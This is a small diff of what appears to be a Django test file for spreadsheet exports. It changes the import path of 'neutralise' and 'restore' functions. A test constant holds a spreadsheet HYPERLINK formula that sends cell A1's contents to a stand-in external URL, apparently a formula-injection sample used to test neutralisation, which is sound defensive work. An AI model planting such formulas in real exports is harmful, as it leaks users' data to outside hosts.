@@ -11,7 +11,7 @@ from django.urls import reverse
 
 from bodies.models import Body, BodyKind, BodyLevel
 from bodies.resources import BodyResource
-from governance.spreadsheets import neutralise, restore
+from governance.core.spreadsheets import neutralise, restore
 
 FORMULA = '=HYPERLINK("https://example.se/?q="&A1,"Klicka")'
 CSV_FORMAT, XLSX_FORMAT = "0", "1"
